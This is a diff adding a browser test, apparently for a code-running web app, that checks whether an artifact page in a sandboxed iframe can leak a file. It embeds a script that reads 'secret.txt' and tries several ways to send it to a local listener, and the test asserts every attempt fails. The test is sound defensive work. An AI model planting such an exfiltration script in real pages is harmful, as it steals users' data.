@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import contextlib
+import socket
+import urllib.parse
 from collections.abc import Callable
 from pathlib import Path
 
@@ -104,6 +107,52 @@ def test_a_page_of_a_program_has_no_origin_and_reaches_nothing(tab: Tab) -> None
     page.keyboard.press("Escape")
     tab.until("document.querySelector('iframe') === null")  # closed, it stops
     page.click("#program-term")
+    tab.type("\n")
+    tab.ended("Finished")
+
+
+LEAVES = """<!doctype html><p>in a frame</p><script>
+fetch('secret.txt').then((answer) => answer.text()).catch(() => 'none').then((text) => {
+  const to = 'http://127.0.0.1:PORT/?' + encodeURIComponent(text + location.href);
+  new Image().src = to;
+  fetch(to, {mode: 'no-cors'}).catch(() => 0);
+  const link = document.createElement('a');
+  link.href = to;
+  link.target = '_top';
+  link.click();
+  try { top.location = to; } catch (error) { document.title = String(error); }
+  document.body.append('tried');
+  setTimeout(() => { location.href = to; }, 1500);
+});
+</script>"""
+
+
+def test_a_page_of_a_program_in_a_tab_of_its_own_carries_nothing_away(tab: Tab) -> None:
+    tab.allowed += ["Content Security Policy", "Failed to load", "sandbox", "navigate", "CORS policy"]
+    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
+        page = LEAVES.replace("PORT", str(elsewhere.getsockname()[1]))
+        secret = "open('secret.txt', 'w').write('SECRET')"
+        leaves = f"open('leaves.html', 'w').write({page!r})"
+        tab.code(f"{secret}\n{leaves}\ninput('> ')\n").run().sees("> ")
+        tab.page.click("#artifacts-list .card")
+        url = tab.page.get_attribute("#viewer-open", "href")
+        tab.page.keyboard.press("Escape")
+        other = tab.page.context.new_page()
+        try:
+            other.goto(urllib.parse.urljoin(tab.page.url, url))
+            assert other.locator("iframe").get_attribute("sandbox") == "allow-scripts"
+            other.frame_locator("iframe").locator("body:has-text('tried')").wait_for(timeout=10_000)
+            elsewhere.settimeout(5)
+            with contextlib.suppress(TimeoutError):
+                # Chromium may connect ahead of a navigation that it then refuses; what counts is a request.
+                while True:
+                    with elsewhere.accept()[0] as connection:
+                        connection.settimeout(5)
+                        assert connection.recv(4096) == b""
+            assert "/view/" in other.url
+        finally:
+            other.close()
+    tab.page.click("#program-term")
     tab.type("\n")
     tab.ended("Finished")
 
